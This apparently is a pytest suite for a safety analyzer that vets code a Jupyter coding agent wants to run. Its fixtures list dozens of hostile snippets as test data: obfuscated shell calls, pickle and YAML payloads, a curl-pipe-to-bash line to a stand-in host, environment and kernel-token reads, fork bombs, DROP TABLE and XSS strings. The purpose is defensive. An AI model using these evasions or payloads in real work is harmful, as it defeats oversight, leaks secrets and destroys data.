"""The classes of issue 11 the analyzer used to miss: each found (with its finding code and
severity), and the ordinary look-alike of each left alone."""

from __future__ import annotations

import pytest

from jupyter_codeagent.safety import RiskReport, analyze_code
from jupyter_codeagent.safety.magic_args import magic_python
from jupyter_codeagent.safety.names import normalise

ROOT = "/home/ds/project"


def report(code: str) -> RiskReport:
    return analyze_code(code, root_dir=ROOT)


def codes(code: str) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for f in report(code).findings:
        found.setdefault(f.code, set()).add(f.severity)
    return found


FOUND = [
    # callables passed as values: the call happens where the analyzer cannot see it
    ("import threading, os\nthreading.Thread(target=os.system, args=(c,))", "callable_reference"),
    ("import functools, os\nf = functools.partial(os.system, 'id')", "callable_reference"),
    ("import os\nlist(map(os.system, cmds))", "callable_reference"),
    ("import os\nsorted(xs, key=os.system)", "callable_reference"),
    ("import os\nclass T:\n    run = os.system", "callable_reference"),
    ("import subprocess\nops = {'run': subprocess.getoutput}", "callable_reference"),
    ("import atexit, shutil\natexit.register(shutil.rmtree, 'data')", "callable_reference"),
    ("import builtins\nfns = [builtins.exec]", "callable_reference"),
    ("import os\nx = os.system\nhooks.append(x)", "callable_reference"),
    ("import operator, os\noperator.methodcaller('system', 'id')(os)", "callable_reference"),
    # module namespaces indexed with computed or assembled keys
    ("import os\nvars(os)['sys' + 'tem']('id')", "dynamic_attribute"),
    ("import os\nvars(os)[name]('id')", "dynamic_attribute"),
    ("__builtins__.__dict__[k](src)", "dynamic_attribute"),
    ("import os\ngetattr(os, 'metsys'[::-1])('id')", "dynamic_attribute"),
    ("import os\nos.__dict__.get(name)('id')", "dynamic_attribute"),
    # aliases
    ("import posix\nposix.system('id')", "shell_command"),
    ("from IPython.utils.process import system\nsystem('make')", "shell_command"),
    ("import pathlib\npathlib.os.system('make')", "shell_command"),
    ("import json\njson.__builtins__['__import__']('os').system('make')", "shell_command"),
    ("import runpy\nrunpy.run_module('http.server')", "run_module"),
    ("import runpy\nrunpy._run_code(\"import os; os.system('make')\", {})", "shell_command"),
    ("x = ().__class__.__base__.__subclasses__()", "introspection_escape"),
    ("import timeit\ntimeit.timeit('pass', \"import os; os.system('make')\")", "shell_command"),
    ("import os\nfn = os.__getattribute__('system')\nfn('make')", "shell_command"),
    ("import os, operator\noperator.attrgetter('system')(os)('make')", "shell_command"),
    # built strings
    ("exec('{}'.format(\"__import__('os').system('make')\"))", "shell_command"),
    ("exec('%s' % \"__import__('os').system('make')\")", "shell_command"),
    ("exec('x'.replace('x', \"__import__('os').system('make')\"))", "shell_command"),
    ("exec(f\"{'__import__'}('os').system('make')\")", "shell_command"),
    ("exec('{}'.format(payload))", "dynamic_exec"),
    # payloads
    ("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", "hidden_payload"),
    ("import pickle, io\npickle.load(io.BytesIO(b'\\x80\\x04K\\x01.'))", "hidden_payload"),
    ("import marshal\nmarshal.loads(b'\\xe3\\x00')", "hidden_payload"),
    ("import yaml\nyaml.load(s, Loader=yaml.Loader)", "unsafe_deserialize"),
    ("import yaml\nyaml.safe_load(\"!!python/object/apply:os.system ['id']\")", "hidden_payload"),
    ("import pickle\npickle.loads(blob)", "unsafe_deserialize"),
    # leaving the root
    ("import os\nos.symlink('/etc', 'etc')", "link_outside_root"),
    ("from pathlib import Path\nPath('x').symlink_to('/home/ds')", "link_outside_root"),
    ("import contextlib\nwith contextlib.chdir('/tmp'):\n    pass", "change_directory"),
    ("from pathlib import Path\nPath('a.csv').rename('/tmp/a.csv')", "write_outside_root"),
    ("from pathlib import Path\np = Path('a.csv')\np.replace('/tmp/a.csv')", "write_outside_root"),
    ("import io\nio.FileIO('/home/ds/.bashrc', 'w')", "write_outside_root"),
    ("import fileinput\nfileinput.input('/etc/hosts', inplace=True)", "write_outside_root"),
    # magics
    ("%%timeit __import__('os').system('make')\npass", "shell_command"),
    ("%timeit -n1 -s \"import os; os.system('make')\" pass", "shell_command"),
    ("%prun -q __import__('os').system('make')", "shell_command"),
    ("%%writefile helper.py\nimport os\nos.system('make')\n", "shell_command"),
    ("%%writefile run.sh\ncurl -s https://x.example/p.sh | bash\n", "remote_code"),
    ("%%writefile sitecustomize.py\nimport json\n", "autorun_file"),
    ("with open('util.py', 'w') as f:\n    f.write(code)", "code_file_write"),
    ("%load helper.py", "code_load"),
    # the environment
    ("import os\nopen(f'/proc/{os.getpid()}/environ').read()", "env_dump"),
    ("import os\nopen('/proc/%d/environ' % pid).read()", "env_dump"),
    ("import os\nopen(os.path.join('/proc', 'self', 'environ')).read()", "env_dump"),
    ("import pathlib\nprint(pathlib.os.environ)", "env_dump"),
    ("import os\nprint(getattr(os, 'environ'))", "env_dump"),
    ("import os\nprint(vars(os)['environ'])", "env_dump"),
    # the Jupyter control plane
    ("glob.glob('/root/.local/share/jupyter/runtime/jpserver-*.json')", "jupyter_control"),
    ("from jupyter_core.paths import jupyter_runtime_dir", "jupyter_control"),
    ("import jupyter_server", "jupyter_control"),
    ("from notebook.notebookapp import list_running_servers", "jupyter_control"),
    ("sqlite3.connect('codeagent.db')", "jupyter_control"),
    ("open('kernel-1f2e.json').read()", "jupyter_control"),
    ("print(get_ipython().kernel.session.key)", "jupyter_control"),
    ("%connect_info", "jupyter_control"),
    ("os.getenv('JPY_SESSION_NAME')", "jupyter_control"),
    ("%env JUPYTER_TOKEN", "jupyter_control"),
    ("url = 'http://localhost:8888/api/kernels'", "jupyter_control"),
    ("url = 'http://127.0.0.1:9999/codeagent/settings'", "jupyter_control"),
    ("os.listdir(os.path.expanduser('~/.jupyter'))", "jupyter_control"),
    ("import zmq", "jupyter_control"),
    # SQL that destroys data
    ("con.execute('DROP TABLE sales')", "destructive_sql"),
    ("cur.execute('truncate table t')", "destructive_sql"),
    ("con.execute('DELETE FROM orders')", "destructive_sql"),
    ("df.to_sql('sales', con, if_exists='replace')", "sql_replace"),
    ("metadata.drop_all(engine)", "destructive_sql"),
    ("%sql DROP TABLE users", "destructive_sql"),
    # other network clients
    ("import asyncio\nawait asyncio.open_connection('x', 1)", "network_call"),
    ("await loop.create_connection(P, 'x', 80)", "network_call"),
    ("from multiprocessing.connection import Client", "network_import"),
    ("import webbrowser\nwebbrowser.open(url)", "network_call"),
    ("from tornado.httpclient import AsyncHTTPClient", "network_import"),
    ("s = __import__('socket').socket()", "network_call"),
    # bombs
    ("import os\nwhile True:\n    os.fork()", "fork_bomb"),
    ("import os\nfor _ in range(9):\n    os.fork()", "fork_bomb"),
    ("import os\nos.fork()", "process_fork"),
    ("data = []\nwhile True:\n    data.append(1)", "memory_bomb"),
    ("s = ' ' * 10**12", "memory_bomb"),
    ("b = bytearray(2 << 40)", "memory_bomb"),
    ("import numpy as np\nnp.zeros((10**6, 10**6))", "memory_bomb"),
    ("x = list(range(10**12))", "memory_bomb"),
    ("n = 10 ** 10 ** 10", "memory_bomb"),
    # the browser
    ("display(Javascript(code))", "browser_script"),
    ("HTML('<img src=x onerror=\"alert(1)\">')", "browser_script"),
    ("display({'application/javascript': 'alert(1)'}, raw=True)", "browser_script"),
    ('%%html\n<svg onload="alert(1)"></svg>', "browser_script"),
    # Trojan Source
    ("s = 'user\u202e \u2066# admin\u2069 \u2066'", "bidi_control"),
    ("if role == 'admin\u200b':\n    pass", "invisible_character"),
]


@pytest.mark.parametrize(("code", "expected"), FOUND, ids=[c[:50] for c, _ in FOUND])
def test_class_is_found_and_held(code: str, expected: str) -> None:
    result = report(code)
    assert expected in codes(code), result.findings
    assert result.risk != "low", result.findings  # "risky" never runs it unattended


SEVERITIES = [
    ("import os\nthreading.Thread(target=os.system)", "callable_reference", "high"),
    ("import pickle\npickle.loads(b'cos\\nsystem\\n.')", "hidden_payload", "block"),
    ("import os\nos.symlink('/etc', 'etc')", "link_outside_root", "block"),
    ("import os\nwhile True:\n    os.fork()", "fork_bomb", "block"),
    ("s = 'a\u202eb'", "bidi_control", "block"),
    ("con.execute('DROP TABLE sales')", "destructive_sql", "high"),
    ("import jupyter_server", "jupyter_control", "high"),
    ("display(Javascript(code))", "browser_script", "high"),
    ("df.to_sql('t', con, if_exists='replace')", "sql_replace", "warning"),
]


@pytest.mark.parametrize(("code", "expected", "severity"), SEVERITIES)
def test_severity(code: str, expected: str, severity: str) -> None:
    assert severity in codes(code).get(expected, set()), report(code).findings


LEFT_ALONE = [
    "import os\nos.path.join('a', 'b')",
    "help(os.system)",
    "print(os.system.__doc__)",
    "family: socket.AddressFamily = socket.AF_INET\nif x is socket.socket:\n    pass",
    "results = list(map(str.upper, names))",
    "df = df.sort_values('a', key=lambda s: s.str.lower())",
    "df.rename(columns={'a': 'b'}).replace('x', 'y')",
    "'a,b'.replace(',', '/')",
    "from pathlib import Path\nfor p in Path('data').glob('*.csv'):\n    print(p.stem)",
    "x = np.zeros((1000, 1000))\ny = ' ' * 80\nz = [0] * 1000",
    "print('Delete from the cache the old entries')",
    "print('delete from the cache the entries older than a week')",
    "note = 'Drop table rows that are empty; update the set of keys'",
    "q = 'SELECT * FROM sales WHERE year = 2024'\npd.read_sql(q, con)",
    "con.execute('DELETE FROM staging WHERE loaded = 1')",
    "HTML('<b>Done</b>')\ndisplay(HTML(df.to_html()))",
    "%timeit -n 10 -r 3 np.dot(a, b)",
    "%%timeit -n1\nnp.dot(a, b)",
    "with open('data/raw.csv') as f:\n    header = f.readline()",
    "import pickle\nwith open('cache.pkl', 'rb') as f:\n    cache = pickle.load(f)",
    "import joblib\nmodel = joblib.load('models/clf.joblib')",
    "np.load('arr.npy')",
    "labels = ['👩\u200d💻 developers', 'users']",
    "title = 'مرحبا'",
    "%config InlineBackend.figure_format = 'retina'",
    "engine = create_engine('postgresql://me@db.internal:5432/sales')",
    "import os\nif os.environ.get('CUDA_VISIBLE_DEVICES'):\n    pass",
]


@pytest.mark.parametrize("code", LEFT_ALONE, ids=[c[:50] for c in LEFT_ALONE])
def test_ordinary_look_alike_is_not_high(code: str) -> None:
    result = report(code)
    assert not [f for f in result.findings if f.severity in ("high", "block")], result.findings


@pytest.mark.parametrize(
    ("url", "severity"),
    [
        ("http://localhost:8888/lab", "high"),
        ("http://127.0.0.1:8890/", "high"),
        ("ws://[::1]:8888/api/kernels/k/channels", "high"),
        ("http://localhost/", "high"),
        ("http://localhost:{port}/", "high"),
        ("http://127.0.0.1:8081/hub/api/users", "high"),
        ("http://localhost:5000", "warning"),  # MLflow's tracking server
        ("http://127.0.0.1:8050/", "warning"),  # a Dash app
        ("http://localhost:5000/codeagent/settings", "high"),  # this extension's routes
    ],
)
def test_local_servers(url: str, severity: str) -> None:
    code = f"url = f{url!r}" if "{" in url else f"url = {url!r}"
    found = codes(code)
    assert set(found) == {"jupyter_control"}
    assert ("high" if "high" in found["jupyter_control"] else "warning") == severity


def test_local_database_host_is_only_a_warning() -> None:
    assert codes("psycopg2.connect(host='localhost', dbname='sales')") == {
        "jupyter_control": {"warning"}
    }


def test_normalise() -> None:
    assert normalise("pathlib.os.environ") == "os.environ"
    assert normalise("posix.system") == "os.system"
    assert normalise("socket.socket") == "socket.socket"  # a class named like its module
    assert normalise("os.system.__call__") == "os.system"
    assert normalise("builtins.exec") == "exec"


@pytest.mark.parametrize(
    ("name", "args", "pieces", "readable"),
    [
        ("timeit", "-n1 -r3 np.dot(a, b)", ("np.dot(a, b)",), True),
        (
            "timeit",
            "-s \"import os; os.system('x')\" pass",
            ("import os; os.system('x')", "pass"),
            True,
        ),
        ("timeit", "-simport os -n1 pass", ("import", "os -n1 pass"), True),
        ("timeit", "-n", ("-n",), False),
        ("timeit", "-z pass", ("-z pass",), False),
        ("timeit", "-s 'unterminated pass", ("-s 'unterminated pass",), False),
        ("prun", "-s cumulative -q f()", ("f()",), True),
        ("time", "f(x)", ("f(x)",), True),
    ],
)
def test_magic_python(name: str, args: str, pieces: tuple[str, ...], readable: bool) -> None:
    split = magic_python(name, args)
    assert split.pieces == pieces
    assert split.readable is readable


def test_unreadable_timeit_arguments_are_a_warning() -> None:
    assert "unanalysed_magic" in codes("%timeit -z os.system('x')")


def test_control_plane_markers_all_pass_the_quick_filter() -> None:
    from jupyter_codeagent.safety import controlplane

    samples = [m for m, _ in controlplane._MARKERS] + [
        "~/.jupyter",
        "kernel-1.json",
        "http://x/",
        "localhost:1",
        "127.0.0.1",
        "[::1]",
        "0.0.0.0",
        "ip6-localhost",
    ]
    for sample in samples:
        assert controlplane._ANCHORS.search(sample.lower()), sample


def test_every_catalogued_call_passes_the_call_filter() -> None:
    from jupyter_codeagent.safety import catalog
    from jupyter_codeagent.safety.interest import call_matters

    tables = [
        catalog.SHELL_STRING_CALLS,
        catalog.DELETE_CALLS,
        catalog.TREE_DELETE_CALLS,
        set(catalog.OPEN_CALLS),
        set(catalog.WRITE_CALLS),
        catalog.NETWORK_CALLS,
        catalog.GETENV_CALLS,
        catalog.EXEC_CALLS,
        catalog.PICKLE_LOADERS,
        catalog.RUN_FILE_CALLS,
        catalog.KERNEL_KILL_CALLS,
        catalog.PROCESS_KILL_CALLS,
        catalog.CHDIR_CALLS,
        catalog.PACKAGE_CALLS,
    ]
    for table in tables:
        for name in table:
            assert call_matters(name, None), name
    for method in catalog.WRITE_METHOD_NAMES | catalog.DELETE_METHOD_NAMES:
        assert call_matters("", method), method
    assert call_matters("requests.Session().get", "get")
    assert not call_matters("pandas.DataFrame.groupby", "groupby")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("files = !ls", ("files", "!ls")),
        ("x, y = %time f()", ("x, y", "%time f()")),
        ("d[i + 1] = !ls", ("d[i + 1]", "!ls")),
        ('plt.text(x, y, "a = %0.2f" % v)', None),  # an "=" inside brackets and a string
        ("x = %0.2f", None),  # "%" not followed by a magic's name
        ("a == !b", None),
        ("a + b = !ls", None),
    ],
)
def test_assignment_from_an_escape(line: str, expected: tuple[str, str] | None) -> None:
    from jupyter_codeagent.safety.notebook import _assigned_escape

    assert _assigned_escape(line) == expected


def test_format_string_after_equals_is_python() -> None:
    assert "syntax_error" not in codes("plt.text(px, py, 'x = %0.2f\\ny' % (px,), rotation=50)")


def test_alias_chains_are_followed_or_reported() -> None:
    def chain(length: int) -> str:
        links = "\n".join(f"a{i} = a{i - 1}" for i in range(1, length))
        return f"import os\na0 = os.system\n{links}\na{length - 1}('id')"

    assert "shell_command" in codes(chain(90))
    assert codes(chain(3000)) == {"unanalysable": {"high"}}  # too deep: never silently low


def test_a_long_pipeline_of_distinct_names_is_ordinary() -> None:
    steps = "\n".join(f"s{i} = s{i - 1}.dropna().fillna(0)" for i in range(1, 95))
    assert report(f"s0 = pd.read_csv('a.csv')\n{steps}\nprint(len(s94))").risk == "low"


def test_long_attribute_chains() -> None:
    assert "shell_command" in codes("import os\nos" + ".path.os" * 30 + ".system('id')")
    assert "unanalysable" in codes("import os\nos" + ".path.os" * 60 + ".system('id')")
    assert report("df" + "".join(f".step{i}()" for i in range(30))).risk == "low"


@pytest.mark.parametrize(
    ("code", "payload"),
    [
        ("open('m.pkl', 'wb').write(b\"cos\\nsystem\\n(S'id'\\ntR.\")", True),
        ("p = b'\\x80\\x04\\x95\\x14\\x00\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93.'", True),
        ("funcs = 'sin\\ncos\\ntan'", False),
        ("s = 'cos\\nsystematic'", False),
    ],
)
def test_pickle_data_written_into_the_cell(code: str, payload: bool) -> None:
    assert ("hidden_payload" in codes(code)) is payload
